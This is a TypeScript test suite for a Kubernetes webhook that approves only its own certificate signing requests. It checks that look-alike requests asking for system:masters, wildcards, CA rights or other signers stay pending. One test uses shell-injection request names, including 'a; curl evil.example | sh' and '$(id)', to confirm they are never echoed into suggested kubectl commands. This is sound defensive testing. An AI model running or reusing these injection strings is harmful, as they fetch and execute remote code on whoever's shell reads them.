import 'reflect-metadata'
import {
  Attribute,
  BasicConstraintsExtension,
  ExtendedKeyUsageExtension,
  Extension,
  PemConverter,
  Pkcs10CertificateRequest,
  SubjectAlternativeNameExtension,
} from '@peculiar/x509'
import fc from 'fast-check'
import { beforeAll, describe, expect, it } from 'vitest'
import {
  type CertificateRequest,
  decideApprovals,
  differencesFrom,
  leftOverRequests,
} from '../../../../lambdas/webhook/certificate/csr.ts'
import {
  certificateRequest,
  dnsExtension,
  ecKey,
  type Pkcs10Parts,
  pkcs10,
  requestNamespace,
  rightNames,
} from '../../../support/kubernetes/certificate-requests.ts'

const webhook = { namespace: requestNamespace, replicas: 2 }
let right: string

beforeAll(async () => {
  right = await pkcs10()
})

function named(name: string, second = 0, status?: CertificateRequest['status']): CertificateRequest {
  return certificateRequest(
    right,
    {},
    {
      metadata: { name, creationTimestamp: new Date(Date.UTC(2026, 10, 25, 12, 0, second)) },
      ...(status && { status }),
    },
  )
}

const namesOf = (requests: readonly CertificateRequest[]) => requests.map(({ metadata }) => metadata?.name)
const approved = { conditions: [{ type: 'Approved' }] }
const issued = { ...approved, certificate: 'LS0t' }

describe('the request of the webhook', () => {
  it('is approved', async () => {
    const request = certificateRequest(right)
    expect(await differencesFrom(request, requestNamespace)).toEqual([])
    expect(await decideApprovals([request], webhook)).toEqual({ approve: [request], leftPending: [], unsigned: [] })
  })

  it('is approved whatever the order of groups, usages and names, and with the extra fields of a bound token', async () => {
    const request = certificateRequest(await pkcs10({ extensions: [dnsExtension(rightNames.toReversed())] }), {
      usages: ['server auth', 'digital signature', 'key encipherment'],
      groups: ['system:authenticated', 'system:serviceaccounts:workload-identity-webhook', 'system:serviceaccounts'],
      extra: { 'authentication.kubernetes.io/pod-name': ['pod-identity-webhook-1'] },
    })
    expect(await differencesFrom(request, requestNamespace)).toEqual([])
  })

  it('is refused from 4097 characters on, white space included', async () => {
    const padded = (length: number) => pkcs10({ rewrap: (pem) => pem.padEnd(length) })
    expect(await differencesFrom(certificateRequest(await padded(4096)), requestNamespace)).toEqual([])
    expect(await differencesFrom(certificateRequest(await padded(4097)), requestNamespace)).toHaveLength(1)
  })

  it('is approved with an attribute that this test encodes', async () => {
    const request = certificateRequest(await pkcs10({ extensions: [], attributes: [namesAttribute(1)] }))
    expect(await differencesFrom(request, requestNamespace)).toEqual([])
  })
})

const challenge = new Attribute('1.2.840.113549.1.9.7', [Buffer.from([0x13, 1, 0x61])])

/** The attribute of the right request, with `count` copies of its value. */
function namesAttribute(count: number): Attribute {
  const names = Buffer.from(dnsExtension(rightNames).rawData)
  const extensions = Buffer.concat([Buffer.from([0x30, 0x81, names.length]), names])
  return new Attribute(
    '1.2.840.113549.1.9.14',
    Array.from({ length: count }, () => extensions),
  )
}

const dns = (value: string) => ({ type: 'dns', value }) as const
const rightCommonName = 'pod-identity-webhook.workload-identity-webhook.svc'

/** Each differs from the right request in one field. */
const deviations: readonly (readonly [string, Pkcs10Parts, string])[] = [
  ['an organisation', { name: [{ CN: [rightCommonName] }, { O: ['system:masters'] }] }, 'its subject is not just'],
  ['an organisation before', { name: [{ O: ['system:masters'] }, { CN: [rightCommonName] }] }, 'its subject'],
  ['an organisation in one part', { name: [{ CN: [rightCommonName], O: ['system:masters'] }] }, 'its subject'],
  ['two common names', { name: [{ CN: [rightCommonName] }, { CN: ['admin'] }] }, 'its subject'],
  ['two values of a name', { name: [{ CN: [rightCommonName, 'admin'] }] }, 'its subject'],
  ['the common name of another namespace', { name: [{ CN: ['pod-identity-webhook.default.svc'] }] }, 'its subject'],
  ['a common name in other case', { name: [{ CN: [rightCommonName.toUpperCase()] }] }, 'its subject'],
  ['no subject', { name: [] }, 'its subject'],
  [
    'an additional name',
    { extensions: [dnsExtension([...rightNames, 'kubernetes.default.svc'])] },
    'its alternative names',
  ],
  ['a missing name', { extensions: [dnsExtension(rightNames.slice(1))] }, 'its alternative names'],
  ['one name twice', { extensions: [dnsExtension([...rightNames, rightCommonName])] }, 'its alternative names'],
  ['another name', { extensions: [dnsExtension([...rightNames.slice(1), 'kubernetes'])] }, 'its alternative names'],
  ['a wildcard', { extensions: [dnsExtension([...rightNames.slice(1), '*.svc'])] }, 'its alternative names'],
  [
    'an address',
    { extensions: [new SubjectAlternativeNameExtension([...rightNames.map(dns), { type: 'ip', value: '10.0.0.1' }])] },
    'its alternative names',
  ],
  [
    'a mail address',
    { extensions: [new SubjectAlternativeNameExtension([...rightNames.map(dns), { type: 'email', value: 'a@b.c' }])] },
    'its alternative names',
  ],
  [
    'a URI',
    {
      extensions: [
        new SubjectAlternativeNameExtension([...rightNames.map(dns), { type: 'url', value: 'spiffe://cluster/admin' }]),
      ],
    },
    'its alternative names',
  ],
  [
    'a directory name',
    { extensions: [new SubjectAlternativeNameExtension([...rightNames.map(dns), { type: 'dn', value: 'CN=admin' }])] },
    'its alternative names',
  ],
  [
    'critical names',
    { extensions: [new SubjectAlternativeNameExtension(rightNames.map(dns), true)] },
    'its alternative names are not in the form',
  ],
  ['no extension', { extensions: [] }, 'it asks for more, or less'],
  ['no names', { extensions: [new BasicConstraintsExtension(false)] }, 'its alternative names are not in the form'],
  [
    'the extension of a CA',
    { extensions: [dnsExtension(rightNames), new BasicConstraintsExtension(true, 0, true)] },
    'it asks for more',
  ],
  [
    'a usage as extension',
    { extensions: [dnsExtension(rightNames), new ExtendedKeyUsageExtension(['1.3.6.1.5.5.7.3.2'])] },
    'it asks for more',
  ],
  ['the names twice', { extensions: [dnsExtension(rightNames), dnsExtension(rightNames)] }, 'it asks for more'],
  ['an additional attribute', { attributes: [challenge] }, 'it asks for more'],
  [
    'an additional attribute at the end',
    { extensions: [], attributes: [namesAttribute(1), challenge] },
    'it asks for more',
  ],
  ['an attribute of two values', { extensions: [], attributes: [namesAttribute(2)] }, 'it asks for more'],
  ['a key of P-384', { key: { ...ecKey, namedCurve: 'P-384' } }, 'its key is not ECDSA P-256'],
  ['a digest of SHA-384', { hash: 'SHA-384' }, 'its signature is not ECDSA with SHA-256'],
  [
    'a key of RSA',
    {
      key: {
        name: 'RSASSA-PKCS1-v1_5',
        hash: 'SHA-256',
        modulusLength: 2048,
        publicExponent: new Uint8Array([1, 0, 1]),
      },
    },
    'its key is not ECDSA P-256',
  ],
  [
    'a signature of another key',
    { tamper: (der) => Buffer.concat([der.subarray(0, -1), Buffer.from([(der.at(-1) ?? 0) ^ 1])]) },
    'its signature does not match its key',
  ],
  ['two requests in one', { rewrap: (pem) => pem + pem }, 'not one readable PKCS #10 request'],
  [
    'another kind of PEM',
    { rewrap: (pem) => pem.replaceAll('CERTIFICATE REQUEST', 'CERTIFICATE') },
    'not one readable',
  ],
  ['nothing readable', { rewrap: () => 'nonsense' }, 'not one readable'],
  ['excessive length', { rewrap: (pem) => pem + ' '.repeat(5000) }, 'not one readable'],
]

const envelopes: readonly (readonly [string, Partial<CertificateRequest['spec']>, string])[] = [
  ['another account', { username: 'system:serviceaccount:workload-identity-webhook:default' }, 'it was created by'],
  [
    'the account of another namespace',
    { username: 'system:serviceaccount:default:pod-identity-webhook' },
    'it was created',
  ],
  ['the user name of an administrator', { username: 'kubernetes-admin' }, 'it was created by "kubernetes-admin"'],
  ['no user name', { username: '' }, 'it was created by ""'],
  [
    'an additional group',
    { groups: [...(certificateRequest('').spec.groups ?? []), 'system:masters'] },
    'not exactly those of a service account',
  ],
  ['a missing group', { groups: ['system:authenticated'] }, 'not exactly those of a service account'],
  ['no group', { groups: [] }, 'not exactly those of a service account'],
  ['extra of an impersonation', { extra: { scopes: ['all'] } }, 'extra fields'],
  ['the signer of clients', { signerName: 'kubernetes.io/kube-apiserver-client' }, 'its signer is'],
  ['the signer of kubelets', { signerName: 'kubernetes.io/kubelet-serving' }, 'its signer is'],
  [
    'an additional usage',
    { usages: ['digital signature', 'key encipherment', 'server auth', 'client auth'] },
    'its usages',
  ],
  ['a missing usage', { usages: ['server auth'] }, 'its usages'],
  ['another usage', { usages: ['digital signature', 'key encipherment', 'client auth'] }, 'its usages'],
  ['a usage twice', { usages: ['digital signature', 'key encipherment', 'server auth', 'server auth'] }, 'its usages'],
  ['a lifetime', { expirationSeconds: 3600 }, 'it asks for a lifetime'],
]

describe('a look-alike', () => {
  it.each(deviations)('with %s is left pending, and the reason names the difference', async (_name, parts, phrase) => {
    const request = certificateRequest(await pkcs10(parts))
    const decision = await decideApprovals([request], webhook)
    expect(decision.approve).toEqual([])
    expect(decision.leftPending).toEqual([{ name: 'csr-right', why: expect.stringContaining(phrase) }])
  })

  it.each(envelopes)('with %s is left pending, and the reason names the difference', async (_name, spec, phrase) => {
    const decision = await decideApprovals([certificateRequest(right, spec)], webhook)
    expect(decision.approve).toEqual([])
    expect(decision.leftPending).toEqual([{ name: 'csr-right', why: expect.stringContaining(phrase) }])
  })

  it('is never approved when one field has another value', async () => {
    const fields = {
      username: fc.string(),
      signerName: fc.string(),
      groups: fc.array(fc.string()),
      usages: fc.array(fc.constantFrom('digital signature', 'key encipherment', 'server auth', 'client auth', 'any')),
    }
    const one = fc.oneof(
      ...Object.entries(fields).map(([field, arbitrary]) =>
        (arbitrary as fc.Arbitrary<unknown>).map((value) => [field, value] as const),
      ),
    )
    await fc.assert(
      fc.asyncProperty(one, async ([field, value]) => {
        const original = certificateRequest(right)
        const sorted = (of: unknown) => JSON.stringify(Array.isArray(of) ? of.toSorted() : of)
        fc.pre(sorted(Object.entries(original.spec).find(([key]) => key === field)?.[1]) !== sorted(value))
        const decision = await decideApprovals([certificateRequest(right, { [field]: value })], webhook)
        expect(decision.approve).toEqual([])
      }),
    )
  })

  it('is never approved when one byte of its signed part or of its signature algorithm differs', async () => {
    const original = new Pkcs10CertificateRequest(Buffer.from(right, 'base64').toString())
    const der = Buffer.from(original.rawData)
    const signed = der.length - original.signature.byteLength
    await fc.assert(
      fc.asyncProperty(fc.nat(signed - 1), fc.integer({ min: 1, max: 255 }), async (at, mask) => {
        const changed = Buffer.from(der)
        changed[at] = (der[at] ?? 0) ^ mask
        const pem = PemConverter.encode(changed, PemConverter.CertificateRequestTag)
        const request = certificateRequest(Buffer.from(pem).toString('base64'))
        expect((await decideApprovals([request], webhook)).approve).toEqual([])
      }),
      { numRuns: 1000 },
    )
  })

  it('of another account for other names is not reported', async () => {
    const kubelet = certificateRequest(
      await pkcs10({ name: [{ CN: ['system:node:a'] }, { O: ['system:nodes'] }], extensions: [dnsExtension(['a'])] }),
      { username: 'system:node:a', groups: ['system:nodes'], signerName: 'kubernetes.io/kubelet-serving' },
    )
    expect(await decideApprovals([kubelet], webhook)).toEqual({ approve: [], leftPending: [], unsigned: [] })
  })

  it.each<[string, Pkcs10Parts]>([
    ['its common name', { extensions: [dnsExtension(['a'])] }],
    [
      'one of its DNS names',
      {
        name: [{ CN: ['a'] }],
        extensions: [new BasicConstraintsExtension(false), dnsExtension(['a', `${rightCommonName}`])],
      },
    ],
  ])('of another account for %s is reported', async (_, parts) => {
    const foreign = certificateRequest(await pkcs10(parts), { username: 'system:node:a' })
    expect((await decideApprovals([foreign], webhook)).leftPending).toMatchObject([{ name: 'csr-right' }])
  })

  it.each<[string, Pkcs10Parts]>([
    [
      'the bare name of the Service, which every namespace may have',
      { name: [], extensions: [dnsExtension(['pod-identity-webhook'])] },
    ],
    [
      'its name in an address of mail',
      { name: [], extensions: [new SubjectAlternativeNameExtension([{ type: 'email', value: rightCommonName }])] },
    ],
    ['nothing readable', { rewrap: () => 'nonsense' }],
    [
      'names that cannot be read',
      { name: [], extensions: [new Extension('2.5.29.17', false, Buffer.from([0x05, 0x00]))] },
    ],
  ])('of another account for %s is not reported', async (_, parts) => {
    const foreign = certificateRequest(await pkcs10(parts), { username: 'system:node:a' })
    expect((await decideApprovals([foreign], webhook)).leftPending).toEqual([])
  })

  it('that was approved or denied by hand is ignored', async () => {
    const foreign = { username: 'kubernetes-admin' }
    const requests = [
      certificateRequest(right, foreign, { status: { conditions: [{ type: 'Denied' }] } }),
      certificateRequest(right, foreign, { status: approved }),
    ]
    expect(await decideApprovals(requests, webhook)).toEqual({ approve: [], leftPending: [], unsigned: [] })
  })
})

describe('the name of a request', () => {
  const names = ['a; curl evil.example | sh', '$(id)', 'a\u001b[2J', 'x'.repeat(254)]

  it.each(names)('is not shown if a shell could read it as more than one word: %j', async (name) => {
    const denied = { conditions: [{ type: 'Denied' }] }
    const { refused } = await decideApprovals([named(name, 0, denied)], webhook)
    expect(refused?.action).toMatch(/^See why with kubectl describe csr unnamed, then run kubectl delete csr unnamed,/)
    expect(JSON.stringify(refused)).not.toContain(name)

    const others = await decideApprovals([{ ...named(name), spec: { ...named(name).spec, usages: [] } }], webhook)
    expect(others.leftPending).toMatchObject([{ name: 'unnamed' }])
  })

  it.each(['csr-8xk2p', 'node-csr-Xu_7Q', 'system:a-1'])('is shown otherwise: %s', async (name) => {
    expect((await decideApprovals([named(name, 0, approved)], webhook)).unsigned).toEqual([name])
  })

  it('does not prevent the deletion of a left-over request', () => {
    const left = leftOverRequests([named('a b', 0, issued)], { namespace: requestNamespace, mode: 'csr' })
    expect(left).toEqual(['a b'])
  })
})

describe('the number of requests', () => {
  it('in a reason is at most 20, because others may create thousands', async () => {
    const requests = Array.from({ length: 1000 }, (_, index) =>
      certificateRequest(right, { username: 'anybody' }, { metadata: { name: `csr-${index}`.padEnd(250, 'x') } }),
    )
    const { leftPending } = await decideApprovals(requests, webhook)
    expect(leftPending).toHaveLength(21)
    expect(leftPending.at(-1)).toEqual({ name: '(980 more)', why: 'kubectl get csr lists them' })
    expect((await decideApprovals(requests.slice(0, 20), webhook)).leftPending).toHaveLength(20)
  })

  it('to approve is one for each replica, the newest first, until those are signed', async () => {
    const requests = [named('csr-1', 1), named('csr-3', 3), named('csr-2', 2)]
    const decision = await decideApprovals(requests, webhook)
    expect(namesOf(decision.approve)).toEqual(['csr-3', 'csr-2'])
    expect(decision.leftPending).toEqual([{ name: 'csr-1', why: expect.stringContaining('are being signed already') }])
  })

  it('to approve is reduced by those that are approved and not signed yet', async () => {
    const decision = await decideApprovals([named('a', 1), named('b', 2), named('c', 3, approved)], webhook)
    expect(namesOf(decision.approve)).toEqual(['b'])
    expect(decision.unsigned).toEqual(['c'])
  })

  it('to approve is not reduced by signed ones, because a restarted replica sends another request', async () => {
    const decision = await decideApprovals([named('a', 3), named('b', 2, issued), named('c', 1, issued)], webhook)
    expect(namesOf(decision.approve)).toEqual(['a'])
  })
})

it('reports each difference of a look-alike, and cuts long names', async () => {
  const request = certificateRequest(right, { username: 'x'.repeat(200), expirationSeconds: 60 })
  const maker = `"${'x'.repeat(100)}"`
  expect((await decideApprovals([request], webhook)).leftPending).toEqual([
    {
      name: 'csr-right',
      why: `it was created by ${maker} and not by system:serviceaccount:${requestNamespace}:pod-identity-webhook, it asks for a lifetime`,
    },
  ])
})

it('reports a request without a user name', async () => {
  const { username: _, ...spec } = certificateRequest(right).spec
  const request = { spec }
  expect(await differencesFrom(request, requestNamespace)).toEqual([expect.stringContaining('it was created by ""')])
})

describe('the left-over requests', () => {
  const requests = [
    named('pending'),
    named('approved', 0, approved),
    named('issued', 0, issued),
    named('denied', 0, { conditions: [{ type: 'Denied' }] }),
    certificateRequest('', { username: 'system:node:a' }, { metadata: { name: 'kubelet' }, status: issued }),
  ]

  it('in csr mode are the signed and the denied ones', () => {
    const left = leftOverRequests(requests, { namespace: requestNamespace, mode: 'csr' })
    expect(left).toEqual(['issued', 'denied'])
  })

  it('in own-ca mode are all of the webhook’s account, and none of another account', () => {
    const left = leftOverRequests(requests, { namespace: requestNamespace, mode: 'own-ca' })
    expect(left).toEqual(['pending', 'approved', 'issued', 'denied'])
    expect(leftOverRequests(requests, { namespace: 'elsewhere', mode: 'own-ca' })).toEqual([])
  })
})

describe('a refused request', () => {
  it('is an error when it was denied: the error names it and the command that deletes it', async () => {
    const decision = await decideApprovals([named('csr-x', 1, { conditions: [{ type: 'Denied' }] })], webhook)
    expect(decision.refused).toMatchObject({
      object: 'CertificateSigningRequest csr-x',
      reason: 'somebody denied it',
      action: expect.stringContaining('kubectl delete csr csr-x'),
    })
  })

  it('is an error when the signer failed to sign it', async () => {
    const status = { conditions: [{ type: 'Approved' }, { type: 'Failed' }] }
    const decision = await decideApprovals([named('csr-x', 1, status)], webhook)
    expect(decision.refused).toMatchObject({ reason: 'the signer of the cluster could not sign it' })
  })

  it('is ignored when the webhook has sent a newer request', async () => {
    const denied = named('csr-old', 1, { conditions: [{ type: 'Denied' }] })
    const decision = await decideApprovals([denied, named('csr-new', 2)], webhook)
    expect(decision.refused).toBeUndefined()
    expect(namesOf(decision.approve)).toEqual(['csr-new'])
  })
})
